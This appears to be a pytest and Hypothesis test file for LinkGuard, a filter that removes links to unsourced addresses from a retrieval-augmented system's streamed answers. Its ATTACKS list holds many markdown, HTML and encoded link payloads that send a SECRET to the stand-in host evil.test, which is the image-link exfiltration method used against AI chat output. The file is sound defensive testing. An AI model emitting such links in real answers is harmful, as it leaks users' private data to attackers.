"""Links of an answer to addresses that no source holds do not reach the reader, however they are written or cut."""

from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rag.answering.links import MAX_HELD, LinkGuard
from rag.types import Source

TEXT = "See https://docs.test/guide?a=1 and [the shop](/shop). <br/>"
SOURCE = Source(1, "https://site.test/page", "T", 0, len(TEXT), TEXT, None, (), 1.0, ("c",), (0,))

ATTACKS = [
    "![x](https://evil.test/a.png?q=SECRET)",
    "[click](https://evil.test/?SECRET)",
    "[click]( <https://evil.test/?SECRET> 'title')",
    "[![x](https://evil.test/SECRET)](https://site.test/page)",
    "[x][r]\n\n[r]: https://evil.test/SECRET",
    "[x][r]\n\n[r]: //evil.test/SECRET",
    "![x](//evil.test/SECRET)",
    "![x](data:text/html,evil.test)",
    "<img src='https://evil.test/SECRET'>",
    "<IMG\nSRC=//evil.test/SECRET >",
    "<a href=https://evil.test/SECRET>docs</a>",
    "<https://evil.test/SECRET>",
    "https://evil.test/SECRET",
    "HTTPS://EVIL.test/SECRET",
    "www.evil.test/SECRET",
    "https://docs.test/guide?a=1&x=evil.test",
    "https://docs.test%2Fevil.test/",
    "[x](https://docs.test@evil.test/)",
    "![x](&#104;ttps://evil.test/SECRET)",
    "![a [b] c](https://evil.test/SECRET)",
    "<img src=https://evil.test/SECRET",
]


def passed(text: str, cuts: list[int]) -> tuple[str, int]:
    guard = LinkGuard([SOURCE])
    edges = [0, *sorted(min(cut, len(text)) for cut in cuts), len(text)]
    shown = "".join(guard.feed(text[low:high]) for low, high in pairwise(edges))
    return shown + guard.finish(), guard.n_removed


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("width", [1, 3, 1000])
def test_an_address_of_no_source_is_taken_out(attack: str, width: int) -> None:
    text = f"Before {attack} after." if not attack.endswith("SECRET") or "\n" in attack else f"Before {attack}"
    shown, n_removed = passed(text, list(range(0, len(text), width)))
    assert "evil" not in shown.casefold()
    assert n_removed >= 1
    assert shown.startswith("Before ")


@pytest.mark.parametrize(
    "text",
    [
        "See https://docs.test/guide?a=1.",
        "See [the page](https://site.test/page) [1].",
        "See [the shop](/shop), [this](#part).",
        "A list[str] and a[0], x < y, <br/> and 2 <3 [1][2].",
        "价格是5元[1]。见 https://site.test/page。",
    ],
)
def test_what_a_source_holds_passes_as_it_is(text: str) -> None:
    for width in (1, 4, 1000):
        assert passed(text, list(range(0, len(text), width))) == (text, 0)


@given(
    st.lists(st.sampled_from([*ATTACKS, " ", "word", "[1]", "。", "\n", "<", "[", "!", "http", "`"]), max_size=8).map(
        "".join
    ),
    st.lists(st.integers(0, 300), max_size=10),
)
def test_no_cut_lets_a_whole_address_through(pieces: list[str], cuts: list[int]) -> None:
    shown, _ = passed("".join(pieces), cuts)
    assert "://evil" not in shown.casefold()


def test_words_without_links_are_not_held_back() -> None:
    guard = LinkGuard([SOURCE])
    assert guard.feed("The tower is tall") == "The tower is tall"
    assert guard.feed(", and 价格") == ", and 价格"


def test_an_opening_that_never_closes_is_let_go_harmless() -> None:
    guard = LinkGuard([])
    shown = guard.feed("<img " + "x" * (MAX_HELD + 1))
    assert shown.startswith("< img")


def test_a_marker_is_shown_at_once_and_cannot_become_a_link() -> None:
    guard = LinkGuard([])
    assert guard.feed("It is [1]") == "It is [1]"
    assert guard.feed("[2]") == "[2]"
    assert guard.feed("(//evil.test/x)") == " (//evil.test/x)"
